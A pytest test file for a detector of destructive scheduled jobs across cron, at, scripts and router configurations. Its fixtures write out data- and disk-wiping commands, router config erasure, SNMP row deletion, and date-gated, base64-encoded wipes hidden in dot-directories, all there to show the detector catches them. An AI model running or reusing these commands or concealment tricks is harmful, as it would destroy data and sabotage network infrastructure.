"""Every destructive-action rule proves itself on its own examples and counterexamples, and the
engine reads scripts the way their interpreter would (functions, heredocs, inline programs,
encoded payloads, date gates) and points at the exact file and line."""

from __future__ import annotations

import base64
import contextlib
import io
import json
import os
import re
from datetime import timedelta
from pathlib import Path

import pytest
import yaml

from lineguard.collector.analyse.destructive import RuleError, judge, load_rules
from lineguard.collector.model import AnacronTrigger, CronTrigger, Fire, Job
from lineguard.formats.wire import Artifact
from tests.ruleexamples import NOW, example_case

RULES = load_rules()


def _rule_ids(rule, example) -> set[str]:
    job, files, fire = example_case(rule, example)
    return {r.rule for r in judge(job, files, fire, NOW).reasons}


def _thin(rules) -> list[str]:
    return [r.id for r in rules if len(r.examples) < 2 or len(r.counterexamples) < 2]


def test_every_rule_has_at_least_two_examples_and_two_counterexamples():
    assert len(RULES) >= 30
    assert _thin(RULES) == []


def test_rules_carry_what_an_alert_reader_needs():
    for r in RULES:
        assert r.id.startswith("lg.") and len(r.description) > 60, r.id
        assert r.references and all(ref.startswith("T1") for ref in r.references), r.id
        if r.role != "context":      # a stray "x: y" in YAML turns an example into a mapping
            assert all(isinstance(e, str) for e in r.examples + r.counterexamples), r.id


def test_required_families_are_covered():
    ids = {r.id for r in RULES}
    for needed in ("lg.ios.no-pvc", "lg.ios.no-atm-pvc", "lg.ios.no-interface-atm",
                   "lg.ios.erase-config", "lg.ios.format", "lg.ios.delete-flash", "lg.ios.reload",
                   "lg.junos.delete-interfaces", "lg.junos.load-override", "lg.junos.zeroize",
                   "lg.tl1.dlt-crs", "lg.tl1.dlt", "lg.tl1.ed-oos", "lg.snmp.atm-rowstatus-destroy",
                   "lg.host.rm-root", "lg.host.disk-wipe", "lg.sql.linedata-wipe",
                   "lg.host.truncate-critical", "lg.host.find-delete", "lg.conceal.encoded-exec",
                   "lg.conceal.date-gate", "lg.conceal.hidden-path"):
        assert needed in ids


@pytest.mark.parametrize("rule", RULES, ids=[r.id for r in RULES])
def test_rule_fires_on_each_example(rule):
    for example in rule.examples:
        assert rule.id in _rule_ids(rule, example), f"{rule.id} missed example {example!r}"


@pytest.mark.parametrize("rule", RULES, ids=[r.id for r in RULES])
def test_rule_stays_quiet_on_each_counterexample(rule):
    for example in rule.counterexamples:
        assert rule.id not in _rule_ids(rule, example), f"{rule.id} fired on {example!r}"


def test_a_rule_file_without_examples_is_caught(tmp_path: Path):
    (tmp_path / "x.yaml").write_text(yaml.safe_dump({"rules": [{
        "id": "lg.x", "title": "t", "description": "d", "severity": "high",
        "verdict": "destructive", "family": "host", "effect": "data-destruction",
        "match": {"target": ["boom"]}}]}))
    assert _thin(load_rules(tmp_path)) == ["lg.x"]


def test_a_broken_rule_file_names_the_file_and_rule(tmp_path: Path):
    (tmp_path / "bad.yaml").write_text(yaml.safe_dump({"rules": [{
        "id": "lg.bad", "title": "t", "description": "d", "severity": "urgent",
        "verdict": "destructive", "family": "host", "effect": "data-destruction",
        "match": {"target": ["x"]}}]}))
    with pytest.raises(RuleError, match=r"bad.yaml: rule 'lg.bad'"):
        load_rules(tmp_path)


# --- the engine: what it reads and where it points -----------------------------------------


def _script_job(text: str, name: str = "usr/local/sbin/nightly.sh", extra=None, **kw):
    files = {name: Artifact.from_bytes(name, "script", text.encode())}
    for n, t in (extra or {}).items():
        files[n] = Artifact.from_bytes(n, "script", t.encode())
    fields = dict(target="ems1", source="cron", origin_path="etc/cron.d/ems", origin_line=4,
                  owner="root", schedule="0 3 * * *", command="/" + name,
                  trigger=CronTrigger("0 3 * * *"), files=(name,))
    fields.update(kw)
    return Job(**fields), files


def _fire(days: float = 1) -> Fire:
    return Fire(kind="exact", at=NOW + timedelta(days=days))


def test_reason_points_at_the_file_and_line_with_the_rule_explanation():
    job, files = _script_job("#!/bin/sh\nset -e\n# purge\nrm -rf /srv/ems/linedata  \n")
    j = judge(job, files, _fire(), NOW)
    assert (j.verdict, j.severity) == ("destructive", "critical")
    r = next(r for r in j.reasons if r.rule == "lg.host.rm-linedata")
    assert (r.path, r.line, r.evidence) == ("usr/local/sbin/nightly.sh", 4,
                                            "rm -rf /srv/ems/linedata")
    assert "line data" in r.explanation and "T1485" in r.references


def test_the_jobs_own_command_is_reported_at_its_origin_line():
    job = Job(target="ems1", source="cron", origin_path="var/spool/cron/crontabs/op",
              origin_line=7, owner="op", schedule="0 4 * * *",
              command="rm -rf /var/lib/postgresql/15/main", trigger=CronTrigger("0 4 * * *"))
    j = judge(job, {}, _fire(), NOW)
    r = next(r for r in j.reasons if r.rule == "lg.host.rm-database")
    assert (r.path, r.line) == ("var/spool/cron/crontabs/op", 7)


def test_a_variable_resolving_to_a_critical_path_is_followed():
    job, files = _script_job('TARGET="/var/lib"\nlog() { echo "$@"; }\nrm -rf "$TARGET"\n')
    j = judge(job, files, _fire(), NOW)
    assert [(r.rule, r.line) for r in j.reasons] == [("lg.host.rm-system-dir", 3)]


def test_function_counts_only_when_called_and_the_call_is_reported():
    body = ("#!/bin/bash\nwipe() {\n  rm -rf /srv/ems/linedata\n}\nrotate() {\n  rm -rf /\n}\n"
            "echo start\nwipe\n")
    job, files = _script_job(body)
    j = judge(job, files, _fire(), NOW)
    got = {(r.rule, r.line) for r in j.reasons}
    assert ("lg.host.rm-linedata", 3) in got and ("lg.host.rm-linedata", 9) in got
    dead = next(r for r in j.reasons if r.rule == "lg.host.rm-root")    # rotate() is never called
    assert (dead.line, dead.severity) == (6, "low") and "nothing here calls" in dead.title
    assert (j.verdict, j.severity) == ("destructive", "critical")
    only_dead, files2 = _script_job("rotate() {\n  rm -rf /\n}\necho idle\n")
    j2 = judge(only_dead, files2, _fire(), NOW)
    assert (j2.verdict, j2.severity) == ("suspicious", "low")
    call = next(r for r in j.reasons if r.line == 9)
    assert call.evidence == "wipe" and "wipe()" in call.title


def test_sourced_library_functions_are_followed_into_the_library():
    lib = "purge_all() {\n  find /srv -type f -delete\n}\n"
    job, files = _script_job(". /usr/local/lib/ems/lib.sh\npurge_all\n",
                             extra={"usr/local/lib/ems/lib.sh": lib})
    j = judge(job, files, _fire(), NOW)
    got = {(r.rule, r.path, r.line) for r in j.reasons}
    assert ("lg.host.rm-system-dir", "usr/local/lib/ems/lib.sh", 2) in got
    assert ("lg.host.rm-system-dir", "usr/local/sbin/nightly.sh", 2) in got


def test_heredoc_fed_to_a_device_session_is_read_as_device_commands():
    text = ("#!/bin/sh\nssh -T ops@atm-kobe-03 <<'EOF'\nconfigure terminal\ninterface ATM0/0/0.100\n"
            " no pvc 0/32\nend\nEOF\necho reload done\n")
    job, files = _script_job(text)
    j = judge(job, files, _fire(), NOW)
    assert [(r.rule, r.line, r.evidence) for r in j.reasons] == [("lg.ios.no-pvc", 5, "no pvc 0/32")]


def test_sql_heredoc_and_inline_python_and_bash_c_are_judged():
    text = ("psql ems <<SQL\nSELECT 1;\nTRUNCATE TABLE atm_vcl;\nSQL\n"
            "python3 -c 'import shutil; shutil.rmtree(\"/x\"); import os; os.system(\"rm -rf /etc\")'\n"
            "su - ems -c \"wipefs -a /dev/sdb\"\n")
    job, files = _script_job(text)
    got = {(r.rule, r.line) for r in judge(job, files, _fire(), NOW).reasons}
    assert {("lg.sql.linedata-wipe", 1), ("lg.host.rm-system-dir", 5),
            ("lg.host.disk-wipe", 6)} <= got


def test_base64_payload_is_decoded_and_both_lines_are_reported():
    payload = base64.b64encode(b"rm -rf /srv/ems/linedata").decode()
    job, files = _script_job(f"#!/bin/sh\necho {payload} | base64 -d | sh\n")
    j = judge(job, files, _fire(), NOW)
    by_rule = {r.rule: r for r in j.reasons}
    hit = by_rule["lg.host.rm-linedata"]
    assert hit.evidence == f"echo {payload} | base64 -d | sh" and hit.line == 2
    assert "delete-tree /srv/ems/linedata" in hit.title and "decoded from base64" in hit.title
    assert by_rule["lg.conceal.encoded-exec"].evidence.startswith("echo " + payload)
    assert j.verdict == "destructive"


def test_hex_and_reversed_payloads_are_decoded():
    hexed = b"dd if=/dev/zero of=/dev/sda".hex()
    job, files = _script_job(f"eval \"$(echo {hexed} | xxd -r -p)\"\n"
                             "echo 'cte/ fr- mr' | rev | sh\n")
    got = {(r.rule, r.line) for r in judge(job, files, _fire(), NOW).reasons}
    assert {("lg.host.disk-wipe", 1), ("lg.host.rm-system-dir", 2)} <= got


def test_date_gate_reports_the_date_it_arms():
    text = ("#!/bin/bash\nif [ $(date +%Y%m%d) -ge 20270210 ]; then\n"
            "  snmpset -v2c -c private atm1 1.3.6.1.2.1.37.1.11.1.13.100.1.0.32.3.0.32 i 6\nfi\n")
    job, files = _script_job(text)
    j = judge(job, files, _fire(), NOW)
    gate = next(r for r in j.reasons if r.rule == "lg.conceal.date-gate")
    assert gate.line == 2 and "2027-02-10" in gate.title
    assert j.reasons[0].rule == "lg.snmp.atm-rowstatus-destroy" and j.severity == "critical"


def test_netmiko_script_sending_config_is_read_as_device_commands():
    text = ("from netmiko import ConnectHandler\nconn = ConnectHandler(**dev)\n"
            "cmds = [\n    'interface ATM1/0',\n    'no atm pvc 0 100 interface ATM1/0/0 0 200',\n]\n"
            "conn.send_config_set(cmds)\nprint(conn.send_command('show atm vc'))\n")
    job, files = _script_job(text, name="opt/ems/bin/cleanup.py")
    got = [(r.rule, r.line) for r in judge(job, files, _fire(), NOW).reasons]
    assert got == [("lg.ios.no-atm-pvc", 7)]


def test_expect_script_sending_write_erase_is_caught():
    text = "#!/usr/bin/expect -f\nspawn telnet 10.40.0.10\nexpect \"#\"\nsend \"write erase\\r\"\n"
    job, files = _script_job(text, name="opt/ems/bin/reset.exp")
    j = judge(job, files, _fire(), NOW)
    assert [(r.rule, r.line) for r in j.reasons] == [("lg.ios.erase-config", 4)]


def test_device_actions_point_at_their_config_line():
    job = Job(target="atm-kobe-03", source="eem", origin_path="running-config", origin_line=120,
              owner=None, schedule='cron-entry "0 3 * * *"', command="event manager applet CLEAN",
              trigger=CronTrigger("0 3 * * *", "ios"),
              actions=(("enable", 122), ("configure terminal", 123),
                       ("no interface ATM0/0/0.100", 124)))
    j = judge(job, {}, _fire(), NOW)
    assert [(r.rule, r.path, r.line) for r in j.reasons] == [
        ("lg.ios.no-interface-atm", "running-config", 124)]


def test_raw_eem_action_lines_are_understood_too():
    job = Job(target="atm-kobe-03", source="eem", origin_path="running-config", origin_line=120,
              owner=None, schedule="", command="event manager applet X",
              trigger=CronTrigger("0 3 * * *", "ios"),
              actions=(('action 3.0 cli command "write erase" pattern "confirm"', 123),
                       ('action 4.0 cli command "y"', 124)))
    j = judge(job, {}, _fire(), NOW)
    assert [(r.rule, r.line) for r in j.reasons] == [("lg.ios.erase-config", 123)]


def test_dormancy_and_a_non_admin_owner_raise_the_severity_of_what_is_destructive():
    text = "snmpset -v2c -c x rtr SNMP-TARGET-MIB::snmpTargetAddrRowStatus.7 i 6\n"
    admin, files = _script_job(text, owner="root")
    other, _ = _script_job(text, owner="contractor")
    assert judge(admin, files, _fire(1), NOW).severity == "high"
    assert judge(other, files, _fire(1), NOW).severity == "critical"      # high +1 owner
    late = judge(admin, files, _fire(77), NOW)
    assert late.severity == "critical"                                    # high +1 dormant
    assert "in 77 days" in next(r for r in late.reasons if r.rule == "lg.context.dormant").title


def test_context_never_makes_a_suspicious_finding_louder_than_medium():
    job, files = _script_job("snmpset -v2c -c x atm1 1.3.6.1.4.1.9.9.999.1.0 i 6\n",
                             owner="contractor")
    j = judge(job, files, _fire(77), NOW)
    assert (j.verdict, j.severity) == ("suspicious", "medium")
    assert {"lg.context.dormant", "lg.context.non-admin-owner"} <= {r.rule for r in j.reasons}


def test_a_yearly_schedule_counts_as_dormant():
    job, files = _script_job("rm -rf /etc\n", trigger=AnacronTrigger("@yearly", 10))
    j = judge(job, files, _fire(2), NOW)
    assert j.severity == "critical" and any(r.rule == "lg.context.dormant" for r in j.reasons)


def test_hidden_directory_script_is_suspicious_and_raises_other_findings():
    job, files = _script_job("find /srv -delete\n", name="home/op/.cache/.x/run.sh")
    j = judge(job, files, _fire(), NOW)
    assert j.severity == "critical"      # high, raised by the hidden location
    job2, files2 = _script_job("echo hi\n", name="home/op/.cache/.x/run.sh")
    j2 = judge(job2, files2, _fire(), NOW)
    assert (j2.verdict, j2.severity) == ("suspicious", "medium")


@pytest.mark.parametrize("routine", [
    "find /var/log -mtime +14 -delete",
    "/usr/sbin/logrotate /etc/logrotate.conf",
    "rm -f /tmp/x.lock",
    "tar czf /var/backups/ems-$(date +%F).tgz /srv/ems && find /var/backups -name 'ems-*' -mtime +30 -delete",
    "apt-get -qq update && apt-get -y -qq upgrade",
    "test -x /usr/sbin/anacron || ( cd / && run-parts --report /etc/cron.daily )",
    "/sbin/fstrim --listed-in /etc/fstab:/proc/self/mountinfo --verbose --quiet-unsupported",
    "snmpbulkwalk -v2c -c public -Cr50 atm1 1.3.6.1.2.1.37.1.7 > /var/lib/ems/vcl.walk",
    "snmpget -v2c -c public atm1 1.3.6.1.2.1.37.1.11.1.13.100.1.0.32.3.0.32",
    "psql -d ems -c 'VACUUM ANALYZE'",
    "systemctl reload apache2",
    "/usr/lib/php/sessionclean",
])
def test_routine_maintenance_stays_benign(routine):
    job = Job(target="ems1", source="cron", origin_path="etc/crontab", origin_line=9, owner="root",
              schedule="0 3 * * *", command=routine, trigger=CronTrigger("0 3 * * *"))
    j = judge(job, {}, _fire(), NOW)
    assert (j.verdict, j.severity, j.reasons) == ("benign", "info", ())


def test_same_job_is_read_once_thanks_to_the_effects_cache():
    text = "\n".join(f"echo line {i}" for i in range(5000)) + "\nrm -rf /srv/ems/linedata\n"
    job, files = _script_job(text)
    from lineguard.collector.analyse.effects import judge as engine
    first = judge(job, files, _fire(), NOW)
    cached = engine._CACHE[engine.cache_key(job, files)]
    again = judge(job, files, _fire(), NOW)
    assert again == first and again.severity == "critical"
    assert engine._CACHE[engine.cache_key(job, files)] is cached  # nothing was read anew


def test_python_heredoc_is_read_as_python_with_its_multiline_calls():
    text = ("#!/bin/sh\n/usr/bin/python3 - <<'PY'\nfrom pysnmp.hlapi.v3arch.asyncio import *\n"
            "async def main():\n"
            "    await set_cmd(SnmpEngine(), CommunityData('private'), target,\n"
            "                  ContextData(),\n"
            "                  ObjectType(ObjectIdentity('1.3.6.1.2.1.37.1.7.1.13.1.0.32'),\n"
            "                             Integer(6)))\nasyncio.run(main())\nPY\n")
    job, files = _script_job(text)
    j = judge(job, files, _fire(), NOW)
    assert ("lg.snmp.atm-rowstatus-destroy", 5) in {(r.rule, r.line) for r in j.reasons}
    assert j.severity == "critical"


def test_function_called_from_a_case_arm_is_followed():
    text = ("#!/bin/sh\npurge() {\n  rm -rf /var/lib\n}\ncase \"$1\" in\n"
            "  nightly) purge ;;\n  *) echo usage ;;\nesac\n")
    job, files = _script_job(text)
    j = judge(job, files, _fire(), NOW)
    assert {("lg.host.rm-system-dir", 3), ("lg.host.rm-system-dir", 6)} <= {
        (r.rule, r.line) for r in j.reasons}
    assert j.verdict == "destructive"


@pytest.mark.parametrize("text, rule", [
    ("sshpass -p \"$PW\" ssh admin@atm-kobe-03 'configure terminal\ninterface ATM0/0/0\n"
     "no pvc 0/32\nend'\n", "lg.ios.no-pvc"),
    ('clogin -c "configure terminal; no interface ATM1/0.5; end" atm-osaka-01\n',
     "lg.ios.no-interface-atm"),
    ("echo 'delete interfaces at-0/0/0 unit 100' | ssh ops@mx-nagoya 'cli -c \"configure\"'\n",
     "lg.junos.delete-interfaces"),
    ('printf "DLT-CRS-VC:NODE7:NTVCL-0-32,LTVCL-0-32:11;\\n" | nc -q 5 tl1gw 3083\n',
     "lg.tl1.dlt-crs"),
    ("LD=/srv/ems/linedata\nrm --recursive --force \"$LD\"\n", "lg.host.rm-linedata"),
    ("python3 -c \"import shutil; shutil.rmtree('/srv/ems/linedata')\"\n",
     "lg.host.rm-linedata"),
    ("bash <(echo cm0gLXJmIC9ldGM= | base64 -d)\n", "lg.conceal.encoded-exec"),
    ("if (( $(date +%s) > 1801000000 )); then\n  dd if=/dev/zero of=/dev/sdb\nfi\n",
     "lg.conceal.date-gate"),
])
def test_planted_variants_are_caught(text, rule):
    job, files = _script_job(text)
    j = judge(job, files, _fire(), NOW)
    assert rule in {r.rule for r in j.reasons}
    assert j.verdict == "destructive"


# --- end to end, one planted job per family: test root -> signed snapshot -> ingest -> jobs ---

_B64 = base64.b64encode(b"rm -rf /srv/ems/linedata").decode()
_ROOT_FILES = {
    "etc/passwd": ("root:x:0:0:root:/root:/bin/bash\n"
                   "oper:x:1000:1000:EMS operator:/home/oper:/bin/bash\n", 0o644),
    "etc/timezone": ("Asia/Tokyo\n", 0o644),
    # line data over SNMP, dormant until February, owned by an operator account
    "etc/cron.d/ems-maint": ("SHELL=/bin/sh\n# line data housekeeping\n"
                             "30 3 10 2 * oper /opt/ems/bin/ld-maint.sh\n", 0o644),
    "opt/ems/bin/ld-maint.sh": ("#!/bin/sh\nset -e\nlog() { logger -t ld \"$*\"; }\nlog start\n"
                                "snmpset -v2c -c private atm-kobe-03 "
                                "1.3.6.1.2.1.37.1.11.1.13.100.1.0.32.3.0.32 i 6\n", 0o755),
    # host and data: the database directory
    "etc/cron.d/db-cleanup": ("15 4 * * * root rm -rf /var/lib/postgresql/15/main\n", 0o644),
    # concealment: a date-gated, base64-encoded wipe run from a hidden directory
    "var/spool/cron/crontabs/oper": ("# DO NOT EDIT THIS FILE - edit the master and reinstall.\n"
                                     "0 5 1 * * /home/oper/.cache/.x/upd.sh\n", 0o600),
    "home/oper/.cache/.x/upd.sh": ("#!/bin/bash\nif [ $(date +%Y%m%d) -ge 20270210 ]; then\n"
                                   f"  echo {_B64} | base64 -d | bash\nfi\n", 0o755),
}
_IOS = """!
hostname atm-kobe-03
clock timezone JST 9 0
!
interface ATM0/0/0.100 point-to-point
 pvc 0/32
  encapsulation aal5snap
!
event manager applet NIGHTLY-CLEAN authorization bypass
 event timer cron cron-entry "0 3 * * *"
 action 1.0 cli command "enable"
 action 2.0 cli command "configure terminal"
 action 3.0 cli command "interface ATM0/0/0.100"
 action 4.0 cli command "no pvc 0/32"
!
end
"""


@pytest.fixture(scope="module")
def jobs_json(tmp_path_factory) -> dict:
    from lineguard.agent.cli import main as agent
    from lineguard.collector.cli import main as lineguard

    base = tmp_path_factory.mktemp("e2e")
    for rel, (text, mode) in _ROOT_FILES.items():
        p = base / "root" / rel
        p.parent.mkdir(parents=True, exist_ok=True)
        p.write_text(text)
        os.chmod(p, mode)
    (base / "atm.cfg").write_text(_IOS)
    (base / "inv.toml").write_text('[[device]]\nname = "atm-kobe-03"\nplatform = "cisco_ios"\n'
                                   'site = "kobe"\nmethod = "file"\npath = "atm.cfg"\n')
    key, home, out = base / "k", base / "home", base / "snap.json"
    assert agent(["keygen", "--out", str(key)]) == 0
    assert agent(["snapshot", "--root", str(base / "root"), "--hostname", "ems-01",
                  "--inventory", str(base / "inv.toml"), "--key", str(key),
                  "--out", str(out)]) == 0
    assert lineguard(["--home", str(home), "init"]) == 0
    assert lineguard(["--home", str(home), "agents", "add", "ems-01", "--key",
                      f"{key}.pub"]) == 0
    assert lineguard(["--home", str(home), "ingest", str(out)]) == 0
    buf = io.StringIO()
    with contextlib.redirect_stdout(buf):
        rc = lineguard(["--home", str(home), "jobs", "--now", "2026-11-25T12:00:00Z", "--json"])
    assert rc == 1                       # destructive findings are at or above the threshold
    return json.loads(buf.getvalue())


def _job(doc: dict, path: str) -> dict:
    return next(j for j in doc["jobs"] if j["origin"]["path"] == path)


@pytest.mark.parametrize("origin, next_fire, rule, evidence, where", [
    ("etc/cron.d/ems-maint", "2027-02-09T18:30:00Z", "lg.snmp.atm-rowstatus-destroy",
     # the community is masked at the agent; the verb, target and OID are what the rule needs
     "snmpset -v2c -c lg-masked:hmac-sha256:… atm-kobe-03 1.3.6.1.2.1.37.1.11.1.13.100.1.0.32.3.0.32 i 6",
     ("opt/ems/bin/ld-maint.sh", 5)),
    ("running-config", "2026-11-25T18:00:00Z", "lg.ios.no-pvc",
     "no pvc 0/32", ("running-config", 14)),
    ("etc/cron.d/db-cleanup", "2026-11-25T19:15:00Z", "lg.host.rm-database",
     "rm -rf /var/lib/postgresql/15/main", ("etc/cron.d/db-cleanup", 1)),
    ("var/spool/cron/crontabs/oper", "2026-11-30T20:00:00Z", "lg.host.rm-linedata",
     f"echo {_B64} | base64 -d | bash", ("home/oper/.cache/.x/upd.sh", 3)),
])
def test_planted_job_reaches_jobs_json_as_destructive_critical(jobs_json, origin, next_fire,
                                                               rule, evidence, where):
    job = _job(jobs_json, origin)
    assert (job["verdict"], job["severity"], job["next_fire"]) == ("destructive", "critical",
                                                                   next_fire)
    reason = next(r for r in job["reasons"] if r["rule"] == rule)
    shown = re.sub(r"(lg-masked:hmac-sha256:)[0-9a-f]{16}", r"\1…", reason["evidence"])
    assert (shown, reason["path"], reason["line"]) == (evidence, *where)


def test_concealed_job_shows_its_hiding_places_in_jobs_json(jobs_json):
    rules = {r["rule"]: r for r in _job(jobs_json, "var/spool/cron/crontabs/oper")["reasons"]}
    assert "2027-02-10" in rules["lg.conceal.date-gate"]["title"]
    assert rules["lg.conceal.encoded-exec"]["line"] == 3
    assert "lg.conceal.hidden-path" in rules


def test_a_variable_set_in_a_sourced_defaults_file_is_followed():
    job, files = _script_job(". /etc/default/ems\nrm -rf \"$LINEDATA_DIR\"/*\n",
                             extra={"etc/default/ems": "# EMS settings\nLINEDATA_DIR=/srv/ems/linedata\n"})
    j = judge(job, files, _fire(), NOW)
    hit = next(r for r in j.reasons if r.rule == "lg.host.rm-linedata")
    assert (hit.path, hit.line, hit.evidence) == ("usr/local/sbin/nightly.sh", 2,
                                                  'rm -rf "$LINEDATA_DIR"/*')


def test_at_job_body_in_a_shell_heredoc_is_read_as_shell():
    text = ("#!/bin/sh\n# atrun uid=1000 gid=1000\n# mail oper 0\numask 2\ncd /home/oper || {\n"
            "\t echo 'Execution directory inaccessible' >&2\n\t exit 1\n}\n"
            "${SHELL:-/bin/sh} << 'marcinDELIMITER5e0b1b32'\nwipe() { rm -rf /srv/ems/linedata; }\n"
            "wipe\nmarcinDELIMITER5e0b1b32\n")
    job, files = _script_job(text, name="var/spool/at/a0000101b8c2e4")
    j = judge(job, files, _fire(), NOW)
    assert {("lg.host.rm-linedata", 10), ("lg.host.rm-linedata", 11)} <= {
        (r.rule, r.line) for r in j.reasons}
